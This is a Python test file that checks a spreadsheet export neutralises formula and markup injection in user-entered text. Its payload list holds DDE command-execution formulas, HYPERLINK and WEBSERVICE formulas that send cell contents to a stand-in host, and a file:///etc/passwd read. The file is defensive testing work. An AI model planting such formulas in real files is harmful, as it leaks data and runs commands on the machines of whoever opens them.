"""Whatever a unit typed stays text: more than a hundred payloads, no formula and no link."""

from io import BytesIO
from itertools import product

import openpyxl
import pytest

from sync.core.grid import column_letters
from sync.core.tracker import (
    BOOK_COLUMNS,
    BOOK_SHEET,
    EVENT_COLUMNS,
    HEADER_ROW,
    LAYOUT,
    PROMPT,
    TRACKER_SHEET,
)
from tests.outputs.lint import lint
from tests.outputs.samples import book, book_bytes, tracker, tracker_bytes

_LEADS = ("=", "+", "-", "@", "\t=", "\r=", "\n=", " =", "'=", '"=', "＝", "|=", "%0A=", "{=", ";=")
_BODIES = (
    "1+1",
    "cmd|'/C calc'!A0",
    'HYPERLINK("http://example.invalid/?x="&A1,"bấm vào đây")',
    'WEBSERVICE("http://example.invalid/"&A1)',
    'SUM(A1:A9)*DDE("server";"topic";"item")',
    "'file:///etc/passwd'#$passwd.A1",
    'IMPORTXML("http://example.invalid","//a")',
)
_LINKS = (
    "http://example.invalid/",
    "https://example.invalid/?q=1&r=2",
    "ftp://example.invalid/x",
    "mailto:a@example.invalid",
    "file:///C:/Windows/System32/calc.exe",
    "internal:Bìa!A1",
    "external:\\\\may-chu\\chia-se\\so.xlsx",
    "\\\\may-chu\\chia-se\\so.xlsx",
    "//may-chu/chia-se/so.xlsx",
    "#Bìa!A1",
)
_MARKUP = (
    "<r><t>x</t></r>",
    "<r></r>",
    "<r><t>x</t></r></si><si><t>y</t><r></r>",
    "<f>1+1</f>",
    "</t></si></sst>",
    "<![CDATA[=1+1]]>",
    "&lt;f&gt;1+1&lt;/f&gt;",
    "_x003D_1+1",
    "_x0000_",
    "\x00\x01\x0b",
    "\ufffe\uffff",
    "{=SUM(A1)}",
    "1E5",
    "007",
    "12345678901234567890",
    "TRUE",
    "#REF!",
)
PAYLOADS = (*(lead + body for lead, body in product(_LEADS, _BODIES)), *_LINKS, *_MARKUP)
_TEXT_FIELDS = tuple(column.field for column in LAYOUT if column.field not in ("ordinal", "prompt"))


def is_prompt(sheet: str, cell: str, formula: str) -> bool:
    return (
        sheet == TRACKER_SHEET
        and cell.startswith(column_letters(LAYOUT.index(PROMPT)))
        and "TODAY()" in formula
    )


def test_there_are_more_than_a_hundred_payloads() -> None:
    assert len(set(PAYLOADS)) >= 100


def test_a_tracker_full_of_payloads_has_no_formula_and_no_link_of_theirs() -> None:
    rows = [dict.fromkeys(_TEXT_FIELDS, payload) for payload in PAYLOADS]
    everywhere = {
        "unit_name": PAYLOADS[0],
        "head": PAYLOADS[9],
        "contact": _LINKS[0],
        "regulation_no": _MARKUP[0],
    }
    file = tracker_bytes(tracker(rows=rows, **everywhere))
    assert lint(file, is_prompt) == []
    sheet = openpyxl.load_workbook(BytesIO(file))[TRACKER_SHEET]
    prompts = LAYOUT.index(PROMPT) + 1
    for row in sheet.iter_rows(min_row=HEADER_ROW + 1):
        assert {cell.data_type for cell in row if cell.value is not None and cell.column != prompts} <= {
            "s",
            "n",
        }
        assert not any(cell.hyperlink for cell in row)


def test_a_book_full_of_payloads_has_no_formula_and_no_link() -> None:
    fields = tuple(column.field for column in (*BOOK_COLUMNS, *EVENT_COLUMNS))
    rows = [{**dict.fromkeys(fields, payload), "feedback": payload} for payload in PAYLOADS]
    file = book_bytes(book(rows=rows, events=rows, unit_names=PAYLOADS, office=PAYLOADS[3]))
    assert lint(file) == []


@pytest.mark.parametrize(
    "payload", ["=1+1", "\\\\may-chu\\x", "<r><t>x</t></r>", "<r></r>", "@SUM(A1)", "\t=1", "007"]
)
def test_a_payload_comes_back_letter_by_letter(payload: str) -> None:
    file = tracker_bytes(tracker(rows=[{"code": "M1", "progress": payload}]))
    sheet = openpyxl.load_workbook(BytesIO(file))[TRACKER_SHEET]
    cell = sheet.cell(HEADER_ROW + 1, [column.field for column in LAYOUT].index("progress") + 1)
    assert (cell.value, cell.data_type) == (payload, "s")


def test_the_validator_and_libreoffice_open_a_tracker_full_of_payloads(
    tmp_path, ooxml_errors, recalculated
) -> None:
    path = tmp_path / "hostile.xlsx"
    harmless = [payload for payload in PAYLOADS if payload != "#REF!"]
    path.write_bytes(
        tracker_bytes(tracker(rows=[dict.fromkeys(_TEXT_FIELDS, payload) for payload in harmless]))
    )
    assert ooxml_errors(path) == []
    assert lint(recalculated(path), is_prompt) == []


def test_book_sheet_is_where_the_payloads_went() -> None:
    file = book_bytes(book(rows=[{"content": "=1+1"}]))
    assert openpyxl.load_workbook(BytesIO(file))[BOOK_SHEET].cell(HEADER_ROW + 1, 5).value == "=1+1"
